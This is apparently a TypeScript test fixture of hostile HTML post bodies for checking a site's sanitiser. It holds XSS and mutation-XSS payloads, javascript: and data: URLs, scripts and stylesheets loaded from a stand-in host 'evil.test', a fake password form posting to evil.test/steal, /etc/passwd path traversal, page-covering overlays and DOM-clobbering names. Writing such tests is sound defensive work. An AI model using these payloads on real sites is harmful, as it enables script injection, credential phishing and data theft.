/** Bodies that attack the page they stand in: its scripts, its addresses, its layout, its own ids, classes and parts. */
import { readBuilt } from '../support/sample-site.ts';

/** Shown by a post, as pictures and films are: these may be asked for. */
export const SHOWN_HOST = 'shown.test';
/** Nothing that posts may show leads here. */
export const EVIL_HOST = 'evil.test';

const EVIL = `https://${EVIL_HOST}`;
const nested = (open: string, times: number, inside: string) =>
  open.repeat(times) + inside + open.replaceAll(/<(\w+)[^>]*>/g, '</$1>').repeat(times);

/** Name -> the body. `call` is a piece of JavaScript that tells of itself, without quotes. */
export const HOSTILE_BODIES: { readonly [name: string]: (call: string) => string } = {
  // What runs.
  'script and handlers': (call) =>
    `<script>${call}</script><img src=x onerror=${call}><p onclick=${call} onpointerover=${call}>x</p><svg onload=${call}>`,
  'script of another host': () =>
    `<script src="${EVIL}/x.js"></script><script type=module src="${EVIL}/y.js"></script>`,
  'import map and rules': () =>
    `<script type=importmap>{"imports":{"react":"${EVIL}/r.js"}}</script><script type=speculationrules>{"prefetch":[{"urls":["${EVIL}/p"]}]}</script>`,
  'structured data of its own': () => '<script type="application/ld+json">{"@type":"Evil"}</script>',
  'addresses of scripts': (call) =>
    `<a href="javascript:${call}">a</a><a href="java&#10;script:${call}">b</a><a href="&#1;javascript:${call}">c</a><iframe src="javascript:parent.${call}"></iframe><form action="javascript:${call}"><button>d</button></form>`,
  'data addresses': (call) =>
    `<iframe src="data:text/html,<script>parent.${call}</script>"></iframe><object data="data:text/html,<script>${call}</script>"></object><embed src="data:image/svg+xml,<svg onload=${call}>"><a href="data:text/html,x">x</a><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  'frames with text of their own': (call) =>
    `<iframe srcdoc="<script>parent.${call}</script>"></iframe><iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;" src="https://player.vimeo.com/video/1"></iframe>`,
  'mutation by foreign elements': (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  'mutation by a form': (call) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${call} src>">`,
  'mutation by nesting': (call) =>
    `${nested('<div>', 240, '')}<svg><style><a title="</style><img src=1 onerror=${call}>">`,
  'shadow root': (call) =>
    `<div><template shadowrootmode=open><img src=x onerror=${call}><slot></slot></template>x</div>`,
  'the page ended': (call) => `</div></article></main></body></html><script>${call}</script><p>after</p>`,
  'own elements of the site': (call) =>
    `<site-island name="LivePost" chunks="${EVIL}/x.js" src="${EVIL}/x.js" when="delay:0" prefix="_x" props="{}"><p>x</p></site-island><p is="site-island" onclick=${call}>y</p><slot name="built"></slot>`,
  'left open': (call) => `<p>x</p><!-- <p title="--><img src=x onerror=${call}>`,
  'tag left open': (call) => `<p>x</p><img src=x onerror=${call} title="`,
  'raw text left open': (call) => `<p>x</p><textarea><title><style><script>${call}`,

  // What asks other hosts.
  'addresses in styles': () =>
    ['background', 'list-style-image', 'cursor', 'content', 'border-image', 'mask', 'filter', 'shape-outside', '--x']
      .map((name) => `<p style="${name}: url(${EVIL}/${name}.png); color: red">x</p>`)
      .join(''),
  'style sheets': () =>
    `<style>@import "${EVIL}/x.css"; @font-face{font-family:Hanken;src:url(${EVIL}/f)} *{background:url(${EVIL}/b)}</style><link rel=stylesheet href="${EVIL}/l.css"><svg><style>@import "${EVIL}/s.css"</style></svg>`,
  'hints of a head': () =>
    ['preload', 'prefetch', 'dns-prefetch', 'preconnect', 'modulepreload', 'icon', 'manifest', 'canonical', 'alternate']
      .map((rel) => `<link rel="${rel}" href="${EVIL}/${rel}" as="image">`)
      .join(''),
  'head of its own': () =>
    `<base href="${EVIL}/" target=_top><meta http-equiv=refresh content="0;url=${EVIL}/"><meta http-equiv=Content-Security-Policy content="default-src *"><title>Evil</title><meta name=referrer content=unsafe-url><a href="/about-us/">here</a>`,
  'old ways to load': () =>
    `<table background="${EVIL}/t.png"><tr><td background="${EVIL}/d.png">x</table><body background="${EVIL}/b.png"><bgsound src="${EVIL}/s"><input type=image src="https://${SHOWN_HOST}/i.png"><applet code="${EVIL}/a"></applet><frameset><frame src="${EVIL}/f"></frameset><img lowsrc="${EVIL}/l" dynsrc="${EVIL}/d" longdesc="${EVIL}/o" src="">`,
  'frames of other hosts': () =>
    [
      'https://player.vimeo.com@evil.test/',
      'https://player.vimeo.com.evil.test/',
      '//evil.test/',
      'https:evil.test',
      '\\\\evil.test\\x',
      'https://www.youtube-nocookie.com:8443/embed/abcdefghijk',
      'https://evil.test/#player.vimeo.com',
      'https://player.vimeo.com\u0000.evil.test/',
    ]
      .map((address) => `<iframe src="${address}" name=main allow="camera *"></iframe>`)
      .join('') +
    `<object data="${EVIL}/o"></object><embed src="${EVIL}/e"><fencedframe src="${EVIL}/f"></fencedframe><portal src="${EVIL}/p"></portal>`,
  'links that tell': () =>
    `<a href="https://example.org/" ping="${EVIL}/ping" attributionsrc="${EVIL}/a" target=_blank rel="opener prefetch" referrerpolicy=unsafe-url download>x</a><img src="https://${SHOWN_HOST}/a.png" attributionsrc="${EVIL}/b" crossorigin=use-credentials referrerpolicy=unsafe-url alt="x">`,
  'maps of pictures': (call) =>
    `<img src="https://${SHOWN_HOST}/m.png" usemap="#m" ismap alt="x"><map name=m><area shape=default href="javascript:${call}"></map>`,
  'drawings that load': () =>
    `<svg width=10 height=10><image href="${EVIL}/i.png"/><use href="${EVIL}/u.svg#x"/><foreignObject><iframe src="${EVIL}/f"></iframe></foreignObject><a href="${EVIL}"><text>x</text></a><animate attributeName=href to="${EVIL}/a"/></svg><math href="${EVIL}"><mi>x</mi></math>`,
  'films and their parts': () =>
    `<video autoplay loop src="https://${SHOWN_HOST}/v.mp4"><track default src="${EVIL}/t.vtt"><p>x</p></video><audio autoplay src="https://${SHOWN_HOST}/a.mp3"></audio>`,
  'lists of pictures': (call) =>
    `<img src="https://${SHOWN_HOST}/a.png" srcset="javascript:${call} 1x, data:text/html,x 2x" sizes="100vw" alt="x"><picture><source srcset="//[${EVIL_HOST}"><source media="(min-width: 1px) url(${EVIL}/m)" srcset="https://${SHOWN_HOST}/b.png"><img src="https://${SHOWN_HOST}/c.png" alt="y"></picture>`,
  'files of this machine': () =>
    '<img src="file:///etc/passwd" alt="x"><img src="/../../../../etc/passwd" alt="y"><img src="/..%2f..%2f..%2fpackage.json" alt="z"><img src="/%2e%2e/site.config.ts" alt="w"><img src="..\\..\\package.json" alt="v">',

  // What lies over the page.
  'styles that lie over it': () =>
    [
      'position: fixed; inset: 0; z-index: 2147483647',
      'position: absolute; top: 0; left: 0; width: 100vw; height: 100vh',
      'margin: -2000px',
      'transform: translateY(-900px) scale(40)',
      'font-size: 900px; line-height: 0',
      'float: left; margin-top: -999px',
      'display: none',
      'width: 9999px; height: 9999px; background: red',
      'position: sticky; top: 0',
      'translate: 0 -500px',
      'all: initial; position: fixed',
      'p\\osition: fixed',
      'POSITION:FIXED',
      'position/**/: fixed',
      'color: red; } body { display: none',
    ]
      .map((style) => `<div style="${style}">Over</div><span style="${style}">it</span>`)
      .join(''),
  'popovers and dialogs': () =>
    `<div popover=manual id=drawer>x</div><button popovertarget=drawer popovertargetaction=show>open</button><button command=show-modal commandfor=d>open</button><dialog id=d open>over</dialog><details name=one open><summary>a</summary>b</details><details name=one open><summary>c</summary>d</details>`,
  'focus and keys': (call) =>
    `<p autofocus tabindex=1 onfocus=${call} accesskey=s contenteditable inert>x</p><a href="/" accesskey=h tabindex=2147483647>y</a><input autofocus><div draggable=true hidden slot=x part=y role=alert aria-live=assertive aria-hidden=true>z</div>`,
  forms: () =>
    `<form action="${EVIL}/steal" method=post target=_top id=main><label for=drawer>Password <input type=password name=attributes autofocus></label><textarea name=body></textarea><select name=children><option>a</select><button formaction="${EVIL}">Sign in</button><input type=submit><isindex prompt=x><keygen><fieldset disabled><output name=x>o</output></fieldset><input type=hidden name=nodeType></form><button form=main>outside</button>`,
  landmarks: () =>
    '<header>h</header><nav>n</nav><main id=main>m</main><aside>a</aside><footer>f</footer><section aria-label="Main">s</section><article>b</article><h1>Second</h1><address>c</address><search>d</search><hgroup><h1>Third</h1></hgroup>',
  'names of the document': () =>
    (
      'getElementById querySelector querySelectorAll body head cookie title forms images links ' +
      'documentElement createElement location defaultView currentScript scripts customElements ' +
      'trustedTypes navigator fetch self top parent opener name __proto__ constructor toString'
    )
      .split(' ')
      .map(
        (name) =>
          `<a id="${name}" href="/x/">x</a><a name="${name}" href="/y/">y</a><img name="${name}" src="/none.png" alt="z"><form name="${name}"></form><iframe name="${name}" src="https://player.vimeo.com/video/1"></iframe><object name="${name}"></object>`,
      )
      .join(''),
  marquees: () => '<marquee behavior=alternate scrollamount=999>x</marquee><blink>y</blink><plaintext>z',
  microdata: () =>
    '<div itemscope itemtype="https://schema.org/Review" vocab="https://schema.org/" typeof="Review" property="author" data-from-post="picture" data-drawer data-chat><span itemprop=name>x</span></div>',

  // What does not fit.
  'deep quotes': () => nested('<blockquote>', 250, '<p>deep</p>'),
  'deep lists': () => nested('<ul><li>', 125, 'deep'),
  'deep numbers': () => nested('<ol><li>', 125, 'deep'),
  'deep terms': () => nested('<dl><dd>', 125, 'deep'),
  'deep tables': () => nested('<table><tr><td>', 40, 'deep'),
  'deep details': () => nested('<details open><summary>s</summary>', 120, 'deep'),
  'raised and lowered': () => nested('<sup>', 200, 'up') + nested('<sub>', 200, 'down'),
  'wide tables': () =>
    `<table width=99999><tr>${'<td width=9999>x</td>'.repeat(300)}</tr></table><table style="width: 9999%"><colgroup><col span=1000 width=9999></colgroup><tr><td colspan=999 rowspan=999 style="width: 9999em">y</td></tr></table>`,
  'large pictures': () =>
    `<p><img src="https://${SHOWN_HOST}/a.png" width=99999 height=99999 alt="x"></p><p><img src="https://${SHOWN_HOST}/b.png" style="width: 9999em" alt="y"></p><p><img src="https://${SHOWN_HOST}/c.png" width=99999 height=1 alt="z"></p><video width=99999 height=9999 src="https://${SHOWN_HOST}/v.mp4"></video>`,
  'long words': () =>
    `<p>${'W'.repeat(20_000)}</p><h2>${'H'.repeat(3000)}</h2><ul><li>${'L'.repeat(3000)}</li></ul><blockquote>${'B'.repeat(3000)}</blockquote><table><tr><td>${'T'.repeat(3000)}</td></tr></table><pre>${'P'.repeat(20_000)}</pre><p><code>${'C'.repeat(3000)}</code> <kbd>${'K'.repeat(3000)}</kbd> <a href="https://example.org/${'a'.repeat(3000)}">https://example.org/${'a'.repeat(3000)}</a></p><details open><summary>${'S'.repeat(3000)}</summary>x</details><figure><img src="/none.png" alt="${'A'.repeat(3000)}"><figcaption>${'F'.repeat(3000)}</figcaption></figure><dl><dt>${'D'.repeat(3000)}</dt></dl><ruby>${'R'.repeat(300)}<rt>${'r'.repeat(3000)}</rt></ruby>`,
  'spaces that do not break': () => `<p>${'a\u00a0'.repeat(5000)}</p><p>${'\u2060a'.repeat(5000)}</p>`,
  'turned direction': () =>
    '<p>\u202e\u202e\u202e turned \u2067\u2068</p><bdo dir=rtl>x</bdo><div dir=rtl><pre>a</pre><table><tr><td>b</td></tr></table></div><p dir=rtl>\u200f(x)</p>',
  'marks on marks': () => `<p>Z${'\u0310\u0322\u0489'.repeat(3000)}</p>`,
  'numbers out of range': () =>
    '<ol start=999999 reversed><li value=-999999>x</li><li>y</li></ol><ol start=99999999999><li value=1e9>z</li></ol>',
  'characters that may not be': () =>
    '<p>a\0b\u0001c\ud800d\ufffee\uffff\u009bf\u202eg &#0; &#x80; &#xD800; &#x1FFFF; &#x110000;</p>',
  'one line of a megabyte': () => `<p>${'word '.repeat(200_000)}</p>`,
  'many elements': () => '<p><b>x</b><i>y</i></p>'.repeat(2000),
};

/** Every class and id of the site's own pages, and what its scripts look for, on elements of a body. */
export function ownParts(): string {
  const pages = ['index.html', 'blogs/index.html', 'blog/small-forms-kind-errors/index.html', 'contact-us/index.html'];
  const html = pages.map(readBuilt).join('');
  const all = (pattern: RegExp) => [...new Set([...html.matchAll(pattern)].map(([, name = '']) => name))];
  const ids = all(/ id="([^"]+)"/g);
  const classes = all(/ class="([^"]+)"/g);
  const data = all(/ (data-[\w-]+)/g);
  return (
    ids.map((id) => `<p id="${id}">x</p><a name="${id}" href="#${id}">y</a>`).join('') +
    classes.map((names) => `<p class="${names}">z</p><code class="${names}">c</code>`).join('') +
    `<p class="${classes.join(' ')}" ${data.map((name) => `${name}="1"`).join(' ')}>w</p>`
  );
}
